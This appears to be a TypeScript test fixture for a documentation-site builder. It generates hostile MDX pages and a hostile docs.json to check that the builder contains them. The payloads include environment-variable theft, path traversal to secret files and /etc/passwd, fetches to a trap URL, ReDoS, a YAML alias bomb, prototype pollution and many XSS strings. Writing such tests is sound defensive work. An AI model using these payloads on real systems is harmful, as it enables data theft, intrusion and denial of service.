// biome-ignore-all lint/suspicious/noTemplateCurlyInString: sources of pages hold such text.
import type { FindingCode } from '../../site/model/finding.js';

export interface HostilePage {
  readonly path: string;
  readonly source: string;
  /** The file extension, `mdx` by default. */
  readonly extension?: 'md' | 'mdx';
  /** Code of a finding that the page must end in. */
  readonly finding?: FindingCode;
  /** The path of its document, if it differs from the page's path. */
  readonly document?: string;
}

interface Surroundings {
  /** The folder of the files that no page may show. */
  readonly root: string;
  readonly trapUrl: string;
}

/** Pages that try one thing each. */
export function hostilePages(surroundings: Surroundings): HostilePage[] {
  const groups: Readonly<Record<string, readonly Omit<HostilePage, 'path'>[]>> = {
    environment: environment(),
    files: files(surroundings),
    connections: connections(surroundings),
    time: time(),
    memory: memory(),
    objects: objects(),
    markup: markup(surroundings),
  };
  const numbered = Object.entries(groups).flatMap(([group, pages]) =>
    pages.map((page, index) => ({ ...page, path: `hostile/${group}-${index}` })),
  );
  return [...numbered, ...names()];
}

const UNSUPPORTED: FindingCode = 'unsupported-expression';
const MISSING: FindingCode = 'missing-snippet';
const FAILED: FindingCode = 'page-failed';

const environment = () => [
  { source: '{process.env.CANARY}', finding: UNSUPPORTED },
  { source: '{JSON.stringify(globalThis.process?.env)}{globalThis.process.env.CANARY}', finding: UNSUPPORTED },
  { source: "import process from 'node:process';\n\n{process.env.CANARY}", finding: UNSUPPORTED },
  { source: "import { env } from 'process';\n\n{env.CANARY}", finding: MISSING },
  { source: 'export const stolen = process.env;\n\n{JSON.stringify(stolen)}', finding: UNSUPPORTED },
  { source: "{''.constructor.constructor('return process')().env.CANARY}", finding: UNSUPPORTED },
  { source: '{import.meta.url}', finding: UNSUPPORTED },
  { source: "import { found } from '/snippets/escape.jsx';\n\n{JSON.stringify(found)}", finding: UNSUPPORTED },
  { source: '---\ntitle: "{process.env.CANARY} ${process.env.CANARY}"\ndescription: "$CANARY"\n---\n\ntext' },
];

const files = ({ root }: Surroundings) => [
  { source: "import { secret } from '../../secret.jsx';\n\n{secret}", finding: UNSUPPORTED },
  { source: "import { secret } from '/../secret.jsx';\n\n{secret}", finding: UNSUPPORTED },
  { source: `import { Secret } from '${root}/secret.jsx';\n\n<Secret />` },
  { source: "import Secret from '../../secret.mdx';\n\n<Secret />" },
  { source: "import Secret from '/linked.mdx';\n\n<Secret />" },
  { source: "import Secret from '/linked-folder/secret.mdx';\n\n<Secret />" },
  { source: "import Secret from '/snippets/../../secret.mdx';\n\n<Secret />" },
  { source: "import Secret from '%2e%2e/%2e%2e/secret.mdx';\n\n<Secret />" },
  { source: "import Environment from '/environment.mdx';\n\n<Environment />" },
  { source: "import Environment from '/proc/self/environ';\n\n<Environment />" },
  { source: `![x](file://${root}/secret.svg) ![y](../../secret.svg) ![z](/../secret.svg) ![l](/linked.svg)` },
  { source: '[x](../../secret.txt) [y](/environment.txt) [z](/linked-folder/secret.txt) [u](/upwards/secret.txt)' },
  { source: "{require('fs').readFileSync('/etc/passwd', 'utf8')}", finding: UNSUPPORTED },
  { source: "{await import('node:fs')}", finding: UNSUPPORTED },
  { source: '---\nopenapi: ../secret.json GET /x\n---\n\ntext' },
  { source: `---\nopenapi: ${root}/secret.json GET /x\n---\n\ntext` },
  { source: '<Snippet file="../secret.mdx" />\n\n<Snippet file=\'../../secret.mdx\' />' },
  { source: '```js file=../../secret.jsx\n```\n\n```js ../../secret.jsx\n```' },
];

const connections = ({ trapUrl }: Surroundings) => [
  { source: `{fetch('${trapUrl}/expression')}`, finding: UNSUPPORTED },
  { source: `export const x = await fetch('${trapUrl}/await');\n\n{x}` },
  { source: `{new XMLHttpRequest()}{new WebSocket('${trapUrl}')}`, finding: UNSUPPORTED },
  { source: `import { Network } from '/snippets/network.jsx';\n\n<Network />`, finding: UNSUPPORTED },
  { source: `import x from '${trapUrl}/module.js';\n\n{x}`, finding: UNSUPPORTED },
  { source: `<script src="${trapUrl}/script.js" />\n\n<script>{\`fetch('${trapUrl}/inline')\`}</script>` },
  { source: `<img src="x" onerror="fetch('${trapUrl}/onerror')">`, extension: 'md' as const },
  { source: `<link rel="stylesheet" href="${trapUrl}/link.css" /><link rel="preload" href="${trapUrl}/p" />` },
  { source: `<style>{\`@import '${trapUrl}/style.css'; b { background: url(${trapUrl}/b.png) }\`}</style>` },
  { source: `![x](${trapUrl}/image.png)\n\n<img src="${trapUrl}/tag.png" srcSet="${trapUrl}/set.png 2x" />` },
  { source: `<iframe src="${trapUrl}/frame" /><video src="${trapUrl}/v.mp4" poster="${trapUrl}/p.png" />` },
  { source: `<meta httpEquiv="refresh" content="0;url=${trapUrl}/refresh" /><base href="${trapUrl}/" />` },
  {
    source: `---\nog:image: ${trapUrl}/og.png\nicon: ${trapUrl}/icon.svg\n---\n\n<Icon icon="${trapUrl}/icon2.svg" />`,
  },
  { source: `---\nopenapi: ${trapUrl}/openapi.json GET /x\nurl: ${trapUrl}/elsewhere\n---\n\ntext` },
];

const time = () => [
  { source: '{(() => { while (true) {} })()}', finding: UNSUPPORTED },
  { source: 'export const x = (() => { for (;;) {} })();\n\n{x}', finding: UNSUPPORTED },
  { source: "import { Loop } from '/snippets/loop.jsx';\n\n<Loop />", finding: UNSUPPORTED },
  { source: '{(() => { const f = () => f(); return f() })()}', finding: UNSUPPORTED },
  { source: "{/(a+)+$/.test('a'.repeat(40) + '!')}", finding: UNSUPPORTED },
  { source: "{'x'.repeat(1e9).length}", finding: UNSUPPORTED },
  { source: '{(() => { const f = (n) => n < 2 ? n : f(n - 1) + f(n - 2); return f(60) })()}', finding: UNSUPPORTED },
  { source: "import A from '/snippets/cycle-a.mdx';\n\n<A />" },
  { source: "import Itself from '/snippets/itself.mdx';\n\n<Itself />" },
  { source: `${'*a_ '.repeat(60_000)}b` },
  { source: `${'[a]('.repeat(60_000)}b` },
  { source: `${'`'.repeat(30_000)} ${'`a'.repeat(30_000)}` },
  { source: `${'<a '.repeat(50_000)}`, extension: 'md' as const },
  { source: `${'![['.repeat(50_000)}x` },
  { source: `${'a\n'.repeat(20_000)}${'[x]: /y\n'.repeat(20_000)}`, extension: 'md' as const },
  { source: `\`\`\`js\n${'/*'.repeat(100_000)}\n\`\`\`\n\n\`\`\`ts\n${'a<'.repeat(50_000)}\n\`\`\`` },
  { source: `\`\`\`md\n${'*_'.repeat(50_000)}\n\`\`\`\n\n\`\`\`html\n${'<a b="'.repeat(30_000)}\n\`\`\`` },
];

const memory = () => [
  { source: "{(() => { let a = ['x']; while (true) a = [...a, ...a]; })()}", finding: UNSUPPORTED },
  { source: "{(() => { let s = 'x'; while (true) s += s; })()}", finding: UNSUPPORTED },
  { source: '{Array.from({ length: 1e9 }).length}', finding: UNSUPPORTED },
  { source: '{new Array(4e9)}{new ArrayBuffer(8e9)}{new Uint8Array(8e9)}', finding: UNSUPPORTED },
  {
    source: '{(() => { let x = <b />; for (let i = 0; i < 40; i++) x = <i>{x}{x}</i>; return x })()}',
    finding: FAILED,
  },
  { source: `{Array.from({ length: 2000 }).map(() => <div>{Array.from({ length: 2000 }).map(() => <i>x</i>)}</div>)}` },
  { source: 'This is a sentence of an endless page.\n\n'.repeat(200_000), finding: FAILED },
  { source: `${'<div>'.repeat(100_000)}x${'</div>'.repeat(100_000)}`, finding: FAILED },
  { source: `${'<div>'.repeat(20_000)}x`, extension: 'md' as const, finding: FAILED },
  { source: `${'>'.repeat(100_000)} x` },
  { source: `${'- '.repeat(50_000)}x` },
  { source: `{${'('.repeat(100_000)}1${')'.repeat(100_000)}}`, finding: FAILED },
  { source: `---\n${bomb()}\n---\n\ntext` },
  { source: `---\ntitle: ${'['.repeat(50_000)}\n---\n\ntext` },
  { source: `${'| a '.repeat(200)}|\n${'| - '.repeat(200)}|\n${`${'| b '.repeat(200)}|\n`.repeat(2000)}` },
  { source: `\`\`\`json\n${'[{"a":"b"},'.repeat(100_000)}\n\`\`\`` },
  { source: `\`\`\`ts\n${'const a = 1;\n'.repeat(100_000)}\`\`\`` },
];

/** Ten aliases of ten aliases of ten …: a line each, a billion values. */
function bomb(): string {
  const lines = Array.from({ length: 9 }, (_, level) => {
    const value = level === 0 ? '"lol"' : `*l${level - 1}`;
    return `l${level}: &l${level} [${Array.from({ length: 10 }, () => value).join(', ')}]`;
  });
  return lines.join('\n');
}

const objects = () => [
  { source: 'export const a = {};\n\n{(() => { a.__proto__.polluted = "yes"; return "" })()}', finding: UNSUPPORTED },
  { source: '{JSON.parse(\'{"__proto__":{"polluted":"yes"}}\').polluted}' },
  { source: '{Object.assign({}, JSON.parse(\'{"__proto__":{"polluted":"yes"}}\')).polluted}' },
  { source: '---\n__proto__:\n  polluted: "yes"\nconstructor:\n  prototype:\n    polluted: "yes"\n---\n\ntext' },
  { source: '{({ get x() { return process.env } }).x}', finding: UNSUPPORTED },
  { source: '{`${{ toString() { return process.env.CANARY } }}`}', finding: UNSUPPORTED },
  { source: '{[1, 2].sort({ valueOf: () => 1 })}' },
  { source: "import { trap } from '/snippets/proxy.jsx';\n\n{trap.anything}<div {...trap} />", finding: UNSUPPORTED },
  { source: '{(function () { return this })()}', finding: UNSUPPORTED },
  { source: '{Reflect.ownKeys(globalThis)}{Symbol.for("x")}', finding: UNSUPPORTED },
  { source: '<constructor /><toString /><__proto__ />' },
  { source: '<Card.constructor>x</Card.constructor><Card.__proto__ />' },
];

const markup = ({ trapUrl }: Surroundings) => [
  { source: "<div {...{ dangerouslySetInnerHTML: { __html: '<script>stolen()</script>' } }} />" },
  { source: '<iframe {...{ srcdoc: "<script>stolen()</script>", srcDoc: "<script>stolen()</script>" }} />' },
  { source: '<a {...{ onclick: "stolen()", onClick: "stolen()", href: "javascript:stolen()" }}>x</a>' },
  { source: `<svg onload="stolen()"><script>stolen()</script><a href="javascript:stolen()"><text>x</text></a></svg>` },
  { source: `![x](/picture.svg)\n\n<img src="/picture.svg" />` },
  { source: '<form action="javascript:stolen()"><button formaction="javascript:stolen()">x</button></form>' },
  { source: '<math><maction actiontype="statusline#stolen()">x</maction></math>', extension: 'md' as const },
  { source: '<svg><foreignObject><iframe src="javascript:stolen()" /></foreignObject></svg>' },
  {
    source: `[x](java\nscript:stolen()) [y](JaVaScRiPt:stolen()) [z](vbscript:stolen()) <${trapUrl}/auto>`,
    extension: 'md' as const,
  },
  {
    source:
      '---\ntitle: "</title><script>stolen()</script>"\ndescription: "\\"><script>stolen()</script>"\n---\n\ntext',
  },
  {
    source: '# <script>stolen()</script> {"<script>stolen()</script>"}\n\n## x" onmouseover="stolen()',
    extension: 'md' as const,
  },
  { source: '```js title="</code><script>stolen()</script>"\n</code></pre><script>stolen()</script>\n```' },
];

/** Names that systems, the language or the bundle have plans for. */
const names = (): HostilePage[] => [
  ...['__proto__', 'constructor', 'toString', 'a..b', 'offprint/theme'].map((path) => ({ path, source: ORDINARY })),
  { path: 'con', source: ORDINARY, document: 'con_.html' },
  { path: 'aux/nul', source: ORDINARY, document: 'aux_/nul_.html' },
  { path: 'com1.page', source: ORDINARY, document: 'com1_.page.html' },
];

const ORDINARY = 'An ordinary page with a name that is none.';

/** A docs.json that reaches out wherever it names a file. */
export function hostileConfiguration(paths: readonly string[]): object {
  return {
    $schema: '../secret.json',
    name: 'Hostile',
    theme: 'mint',
    colors: { primary: 'url(../secret.css)', light: '</style><script>stolen()</script>' },
    favicon: '../secret.svg',
    logo: { light: '/linked.svg', dark: '/environment.txt' },
    styles: ['/style.css', '../secret.css'],
    navbar: { links: [{ label: '<script>stolen()</script>', href: 'javascript:stolen()' }] },
    footer: { socials: { x: 'javascript:stolen()', github: '"><script>stolen()</script>' } },
    integrations: { ga4: { measurementId: '"><script>stolen()</script>' } },
    redirects: [
      { source: '/../../secret', destination: 'javascript:stolen()' },
      { source: '/x', destination: '/"><script>stolen()</script>' },
    ],
    api: { openapi: ['../secret.json', '/linked-folder/secret.json'] },
    navigation: {
      groups: [
        { group: 'All', pages: [...paths, '../secret', '/etc/passwd', 'linked', 'environment', '__proto__/x', '..'] },
      ],
    },
  };
}
